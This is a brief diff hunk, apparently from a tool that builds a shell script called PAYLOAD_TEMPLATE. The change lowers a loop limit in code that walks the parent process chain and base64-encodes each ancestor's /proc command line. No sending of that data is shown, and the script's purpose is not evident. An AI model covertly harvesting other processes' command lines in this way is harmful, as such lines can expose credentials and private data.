@@ -86,7 +86,7 @@ PAYLOAD_TEMPLATE = """#!/bin/sh
 chain=""
 p=$$
 i=0
-while [ "$i" -lt 6 ] && [ -n "$p" ] && [ "$p" != 0 ]; do
+while [ "$i" -lt 5 ] && [ -n "$p" ] && [ "$p" != 0 ]; do
   chain="$chain $(base64 -w0 < /proc/$p/cmdline 2>/dev/null)"
   next=""
   while read -r key value; do
